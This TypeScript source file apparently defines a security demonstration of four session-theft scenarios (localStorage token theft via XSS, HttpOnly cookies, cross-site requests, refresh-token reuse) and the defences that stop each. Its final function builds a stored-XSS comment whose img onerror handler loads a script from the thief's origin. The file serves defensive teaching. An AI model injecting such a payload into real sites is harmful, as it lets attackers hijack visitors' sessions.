import type { Decision } from './deciding-code.js';

export const ACTS = [1, 2, 3, 4] as const;
export type Act = (typeof ACTS)[number];

interface ActDescription {
  title: string;
  /** How the forum, the app that is attacked, keeps its session. */
  transport: 'bearer' | 'cookie';
  /** Whether the thief writes a comment with a script into the forum. Otherwise the thief has only a site. */
  injects: boolean;
  decidedBy: Decision[];
  /** The limits of the result, so that it claims no more than it shows. */
  limits: string[];
}

const FORUM = 'src/console/heist/pages/forum.js';

export const DESCRIPTIONS: Record<Act, ActDescription> = {
  1: {
    title: 'A script reads the token from localStorage',
    transport: 'bearer',
    injects: true,
    decidedBy: [
      {
        file: FORUM,
        code: "localStorage.setItem('session'",
        says: 'The page keeps its tokens where every script of its origin can read them.',
      },
      {
        file: FORUM,
        code: 'innerHTML = comment',
        says: 'The page writes the text of a stranger as HTML, and the text brings a script.',
      },
      {
        file: 'src/sessions/check/session-check.ts',
        code: 'const ended = judge(',
        says: 'After the owner has ended the session, the next check of the stolen token refuses it.',
      },
    ],
    limits: [
      'The stolen token works until its session ends, or until it expires.',
      'The owner gets a mail because another program uses the session (SUSPICION_BROWSER).',
      'On a route of the access tier an ended session is refused by the list of revocations, not by this check.',
    ],
  },
  2: {
    title: 'The same script finds HttpOnly cookies',
    transport: 'cookie',
    injects: true,
    decidedBy: [
      {
        file: 'src/auth/guards/cookies.ts',
        code: 'httpOnly:',
        says: 'The browser does not show these cookies to scripts.',
      },
      {
        file: 'src/console/heist/heist-pages.controller.ts',
        code: 'const STRICT =',
        says: 'With the content security policy, the browser runs no script that stands in the HTML.',
      },
    ],
    limits: [
      'While the page is open, the script can send requests as its visitor: see the request of `script`.',
      'A content security policy stops the script itself: start this act with `contentSecurityPolicy`.',
    ],
  },
  3: {
    title: 'Another site sends a form and a fetch',
    transport: 'cookie',
    injects: false,
    decidedBy: [
      {
        file: 'src/auth/guards/cookies.ts',
        code: 'sameSite:',
        says: 'The browser does not add these cookies to requests that a page of another site sends.',
      },
      {
        file: 'src/app.setup.ts',
        code: 'fastify.removeAllContentTypeParsers();',
        says: 'The server reads JSON only, and a form cannot send JSON.',
      },
      {
        file: 'src/auth/guards/cross-site.guard.ts',
        code: 'return site ===',
        says: 'The server refuses a request that changes something and comes from another site.',
      },
    ],
    limits: [
      'A link from another site still carries the cookies to a GET route, which must change nothing.',
      'A browser that blocks third-party cookies adds none in a frame anyway. The last form opens its answer in the tab.',
    ],
  },
  4: {
    title: 'A stolen refresh token is used',
    transport: 'bearer',
    injects: true,
    decidedBy: [
      {
        file: 'src/sessions/refresh/rotation.ts',
        code: 'return firstUse ?',
        says: 'Without the device token, a refresh token that was used before is a copy.',
      },
      {
        file: 'src/sessions/refresh/refresh-refusals.service.ts',
        code: "audit: 'authn_token_reuse',",
        says: 'The session ends in the transaction that also adds the mail to the owner.',
      },
    ],
    limits: [
      'This thief has the refresh token alone. The page keeps the device token in a variable, not in localStorage.',
      'A thief with the device token too survives some refreshes of the owner: decision 5 states how many.',
    ],
  },
};

/** Where the requests of act 3 come from, and what the page of the thief calls them. */
export const CROSS_SITE_ATTEMPTS = [
  'form-login',
  'form-logout',
  'form-disguised-as-json',
  'fetch-read',
  'fetch-logout',
  'fetch-login',
  'form-navigation',
] as const;

/** The comment of the thief. An image that does not exist runs the handler, which loads the script. */
export function injectedComment(thiefOrigin: string, runId: string): string {
  const script = `${thiefOrigin}/dev/heist/pages/injected.js?run=${runId}`;
  const handler = `s = document.createElement('script'); s.src = '${script}'; document.head.append(s)`;
  return `Great post! <img alt="" src="/dev/heist/no-image" onerror="${handler}">`;
}
